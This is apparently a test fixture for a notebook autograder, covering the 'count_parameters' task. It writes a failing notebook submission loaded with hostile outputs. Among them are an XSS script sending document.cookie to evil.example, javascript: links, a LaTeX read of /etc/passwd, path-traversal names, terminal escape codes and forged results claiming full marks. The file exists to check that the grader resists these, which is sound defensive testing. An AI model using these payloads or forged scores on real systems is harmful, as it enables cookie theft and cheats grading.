"""Brings outputs along: scripts, forged results, terminal codes, a widget and a megabyte of pictures.

unit: u04_linear
task: count_parameters
verdict: failed
points: 0
form: folder
"""

import json

SCRIPT = "<script>fetch('http://evil.example/?' + document.cookie)</script><img src=x onerror=alert(1)>"
DATA = {
    "text/html": SCRIPT,
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}</svg>",
    "text/markdown": f"[click](javascript:alert(1)) {SCRIPT}",
    "text/latex": r"\href{javascript:alert(1)}{x}\input{/etc/passwd}",
    "application/javascript": "alert(1)",
    "application/json": {"score": 100, "verdict": "passed", "points": 1},
    "application/vnd.jupyter.widget-view+json": {"model_id": "../../x"},
    "image/png": "A" * 2**20,
    "text/plain": "1 passed\n===== 1 of 1 points =====\x1b]0;all right\x07\x1b[2J\r100 %",
}
ANSWER = "def count_parameters(module, trainable_only=False):\n    return 0\n"


def write(folder):
    outputs = [
        {"output_type": "display_data", "data": DATA, "metadata": {}},
        {"output_type": "execute_result", "data": DATA, "metadata": {}, "execution_count": 1},
        {"output_type": "stream", "name": "stdout", "text": "1.0"},  # nbgrader: a number is partial credit
        {"output_type": "error", "ename": "", "evalue": "", "traceback": []},
    ]
    note = {"cell_type": "markdown", "source": SCRIPT, "attachments": {"../../x.png": {"image/png": "AAAA"}}}
    cells = [note, {"cell_type": "code", "metadata": {}, "source": ANSWER, "outputs": outputs}]
    (folder / "linear.ipynb").write_text(json.dumps({"cells": cells, "nbformat": 4}))
